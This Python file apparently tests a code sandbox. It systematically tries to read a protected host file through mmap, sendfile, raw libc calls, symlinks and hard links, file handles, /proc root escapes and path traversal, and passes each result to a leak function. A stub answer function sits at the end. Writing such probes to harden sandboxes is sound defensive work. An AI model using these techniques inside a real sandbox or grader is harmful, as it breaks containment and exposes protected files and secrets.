# ruff: noqa
"""The host's file read by path, by other roots, by handle, by mapping, by copying."""

import mmap, shutil

FILE = HOST["secret"]


def by_map():
    with open(FILE, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as found:
        return found[:]


def by_sending():
    source, target = os.open(FILE, os.O_RDONLY), os.open("hx-copy", os.O_RDWR | os.O_CREAT)
    os.sendfile(target, source, 0, 4096)
    return os.pread(target, 4096, 0)


def by_library():
    import ctypes

    descriptor = libc().open(FILE.encode(), 0)
    buffer = ctypes.create_string_buffer(4096)
    libc().read(descriptor, buffer, 4096)
    return buffer.raw


def by_link():
    os.symlink(FILE, "hx-link")
    return open("hx-link").read()


def by_hard_link():
    os.link(FILE, "hx-hard")
    return open("hx-hard").read()


def by_handle():
    import ctypes

    handle = ctypes.create_string_buffer(136)
    ctypes.c_uint.from_buffer(handle).value = 128
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, FILE.encode(), handle, ctypes.byref(mount), 0)
    folder = os.open("/", os.O_RDONLY)
    return os.read(syscall("open_by_handle_at", folder, handle, 0), 4096)


def by_start():
    import runpy

    try:
        runpy.run_path(FILE)
    except SyntaxError as error:
        return str(error.text)


def by_loader():
    import linecache, tokenize

    return "".join(linecache.getlines(FILE)) + tokenize.open(FILE).read()


for way in (by_map, by_sending, by_library, by_link, by_hard_link, by_handle, by_start, by_loader):
    leak(attempt(way) or "")
for root in ("", "/proc/1/root", "/proc/self/root", "../" * 12, "/proc/self/cwd/" + "../" * 12):
    leak(attempt(lambda root=root: open(root + FILE, "rb").read()) or "")
attempt(lambda: shutil.copy(FILE, "hx-copied") and leak(open("hx-copied").read()))


def largest(numbers):
    return said()
